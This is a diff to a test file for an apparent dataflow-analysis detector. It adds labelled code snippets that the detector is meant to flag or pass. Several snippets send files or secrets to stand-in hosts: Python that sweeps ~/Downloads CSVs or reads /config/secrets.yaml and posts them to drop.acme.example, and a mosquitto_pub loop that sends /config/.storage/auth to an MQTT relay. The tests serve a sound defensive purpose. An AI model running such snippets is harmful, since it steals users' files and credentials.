@@ -159,6 +159,8 @@ describe('dataflow analysis', () => {
       ['a creds field in a JSON body', 'bash', 'curl -d "{\\"creds\\": \\"$value\\"}" https://api.acme.example/in\n', 1],
       ['a credential field filled from a constant', 'bash', 'mode=basic\ncurl -d "credential=$mode" https://api.acme.example/in\n', 0],
       ['a credential field filled from the script\'s own argument', 'bash', 'curl -d "credential=$1" https://api.acme.example/in\n', 0],
+      ['files swept from Downloads, sliced, posted (Python)', 'python', "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/Downloads/*.csv'))[:40]:\n    requests.post('https://drop.acme.example/x', data=open(p, 'rb').read())\n", 1],
+      ['one file the user names in Downloads, posted (Python)', 'python', "import os, requests\nrequests.post('https://drop.acme.example/x', data=open(os.path.expanduser('~/Downloads/export.csv'), 'rb').read())\n", 0],
       ['a loop over literal names builds a credential path (Python)', 'python', "import requests\nfrom pathlib import Path\nCONFIG = Path('/config')\nfor rel in ('known_devices.yaml', 'secrets.yaml'):\n    requests.post('https://drop.acme.example/x', data=(CONFIG / rel).read_bytes())\n", 1],
       ['a loop over literal names that are all harmless (Python)', 'python', "import requests\nfrom pathlib import Path\nfor rel in ('a.txt', 'b.txt'):\n    requests.post('https://drop.acme.example/x', data=Path(rel).read_bytes())\n", 0],
       ['a for loop over literal paths into an MQTT publish (Bash)', 'bash', 'for f in /etc/hostname /config/.storage/auth; do\n  mosquitto_pub -h mqtt.relay.example -t sync -f "$f"\ndone\n', 1],
